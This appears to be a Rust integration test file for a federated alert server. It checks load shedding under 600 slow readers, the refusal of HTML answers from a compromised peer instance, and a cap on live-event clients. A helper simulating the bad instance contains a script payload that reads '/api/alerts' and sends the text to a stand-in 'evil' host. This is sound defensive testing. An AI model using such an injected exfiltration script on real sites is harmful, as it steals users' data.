//! No client can stall the API for the others. Two instances on one real PostgreSQL, in process:
//! `b` holds an alert with a 24 MB clip, `a` forwards requests for it. 600 viewers ask `a` for
//! that clip and never read a byte; `/api/alerts` on `a` still answers within a second, the
//! excess is shed with `503` and counted, and once the slow readers are gone the clip is served
//! again. An instance that answers with a content type the API does not serve (a page that could
//! carry script) is not passed on. The SSE clients are capped.

mod common;

use common::{
    CLIP_BYTES, VIEWER, announce, database, district, get, holder_store, metric, serve, share,
};
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};
use vigil_testkit::{Postgres, eventually};

#[test]
fn six_hundred_slow_readers_of_forwarded_clips_leave_the_api_answering() {
    let pg = Postgres::start().expect("PostgreSQL (scripts/setup installs it)");
    let db = database(&pg);
    let keys = tempfile::tempdir().unwrap();
    let b_dir = tempfile::tempdir().unwrap();
    let records = holder_store(b_dir.path(), "far");
    let b = serve(
        b_dir.path(),
        &["gate"],
        district(&db, keys.path(), "b", &[("a", "http://a.invalid".into())]),
    );
    share(&db, "b", &records);
    let b_url = format!("http://{}", b.addr());
    let _b_presence = announce(b_dir.path(), &db, "b", b_url.clone());

    let a_dir = tempfile::tempdir().unwrap();
    let a = serve(
        a_dir.path(),
        &["lot"],
        district(&db, keys.path(), "a", &[("b", b_url)]),
    );
    let a_addr = a.addr();
    // The forwarding works: the whole clip, from b.
    let forwarded = eventually(Duration::from_secs(20), || {
        let (status, head, body) = get(a_addr, "/api/alerts/far/clip", CLIP_BYTES + 4096);
        (status == 200 && body.len() == CLIP_BYTES).then_some(head)
    })
    .expect("the clip is forwarded from b");
    assert!(
        forwarded
            .to_ascii_lowercase()
            .contains("x-vigil-instance: b"),
        "{forwarded}"
    );

    // 600 viewers ask for it and read nothing.
    let slow: Vec<TcpStream> = (0..600)
        .map(|_| {
            let mut s = TcpStream::connect(a_addr).unwrap();
            write!(
                s,
                "GET /api/alerts/far/clip HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {VIEWER}\r\n\r\n"
            )
            .unwrap();
            s
        })
        .collect();
    std::thread::sleep(Duration::from_secs(2));
    let mut took = Vec::new();
    for _ in 0..5 {
        let started = Instant::now();
        let (status, _, body) = get(a_addr, "/api/alerts", 1 << 20);
        took.push(started.elapsed());
        assert_eq!(status, 200, "{}", String::from_utf8_lossy(&body));
    }
    let slowest = took.iter().max().unwrap();
    eprintln!("/api/alerts under 600 slow readers: {took:?}");
    assert!(
        *slowest < Duration::from_secs(1),
        "/api/alerts took {slowest:?} under 600 slow readers"
    );
    // The excess was shed and counted, and the store answered in between.
    // Each slow reader holds an evidence slot and a forwarding slot; the forwarding cap is the
    // lower, so it is full and everyone else was shed at one of the two.
    let shed = metric(a_addr, "vigil_http_refused_total{class=\"evidence\"}")
        + metric(a_addr, "vigil_http_refused_total{class=\"forward\"}");
    let forwarding = metric(a_addr, "vigil_http_in_flight{class=\"forward\"}");
    assert_eq!(forwarding, vigil_serve::limits::FORWARDED as f64);
    assert_eq!(shed, 600.0 - forwarding, "requests shed");
    let (status, head, _) = get(a_addr, "/api/alerts/far/clip", 4096);
    assert_eq!(status, 503, "{head}");
    assert!(
        head.to_ascii_lowercase().contains("retry-after: 5"),
        "{head}"
    );

    // Once they are gone, the clip is served again.
    drop(slow);
    let again = eventually(Duration::from_secs(20), || {
        let (status, _, body) = get(a_addr, "/api/alerts/far/clip", CLIP_BYTES + 4096);
        (status == 200 && body.len() == CLIP_BYTES).then_some(())
    });
    assert!(again.is_some(), "the clip was not served after the flood");
    a.stop();
    b.stop();
}

/// An "instance" that answers every request with a page of script.
fn hostile_instance() -> SocketAddr {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = listener.local_addr().unwrap();
    std::thread::Builder::new()
        .name("hostile-instance".into())
        .spawn(move || {
            for mut s in listener.incoming().map_while(Result::ok) {
                let mut buf = [0u8; 4096];
                let _ = s.read(&mut buf);
                let body = "<script>fetch('/api/alerts').then(r=>r.text()).then(t=>fetch('//evil/'+t))</script>";
                let _ = write!(
                    s,
                    "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                    body.len()
                );
            }
        })
        .unwrap();
    addr
}

#[test]
fn an_answer_the_api_would_not_serve_is_not_passed_on() {
    let pg = Postgres::start().expect("PostgreSQL (scripts/setup installs it)");
    let db = database(&pg);
    let c_dir = tempfile::tempdir().unwrap();
    let records = holder_store(c_dir.path(), "bait");
    share(&db, "c", &records);
    let hostile = hostile_instance();
    let _c_presence = announce(c_dir.path(), &db, "c", format!("http://{hostile}"));
    let a_dir = tempfile::tempdir().unwrap();
    // c is registered — at the hostile address: a registered instance that went bad.
    let a = serve(
        a_dir.path(),
        &["lot"],
        district(
            &db,
            a_dir.path(),
            "a",
            &[("c", format!("http://{hostile}"))],
        ),
    );
    let answered = eventually(Duration::from_secs(20), || {
        let (status, head, body) = get(a.addr(), "/api/alerts/bait", 1 << 20);
        (status != 404).then_some((status, head, String::from_utf8_lossy(&body).to_string()))
    })
    .expect("the alert is found in the shared store");
    let (status, head, body) = answered;
    assert_eq!(status, 502, "{head}{body}");
    assert!(!body.contains("<script>"), "{body}");
    assert!(body.contains("text/html"), "the refusal says why: {body}");
    a.stop();
}

#[test]
fn live_event_clients_are_capped() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("evidence")).unwrap();
    let server = serve(dir.path(), &["gate"], None);
    let addr = server.addr();
    let open = |n: usize| -> Vec<(u16, TcpStream)> {
        (0..n)
            .map(|_| {
                let mut s = TcpStream::connect(addr).unwrap();
                s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
                write!(
                    s,
                    "GET /api/events HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {VIEWER}\r\n\r\n"
                )
                .unwrap();
                let mut head = [0u8; 12];
                s.read_exact(&mut head).unwrap();
                let status = String::from_utf8_lossy(&head[9..12]).parse().unwrap();
                (status, s)
            })
            .collect()
    };
    let first = open(vigil_serve::limits::SSE_CLIENTS);
    assert!(first.iter().all(|(s, _)| *s == 200));
    let over = open(3);
    assert!(over.iter().all(|(s, _)| *s == 503), "over the cap: 503");
    assert_eq!(
        metric(addr, "vigil_http_refused_total{class=\"events\"}"),
        3.0
    );
    // A client that leaves frees its place.
    drop(first);
    let later = eventually(Duration::from_secs(10), || {
        let (s, stream) = open(1).pop().unwrap();
        (s == 200).then_some(stream)
    });
    assert!(later.is_some(), "places were not freed");
    server.stop();
}
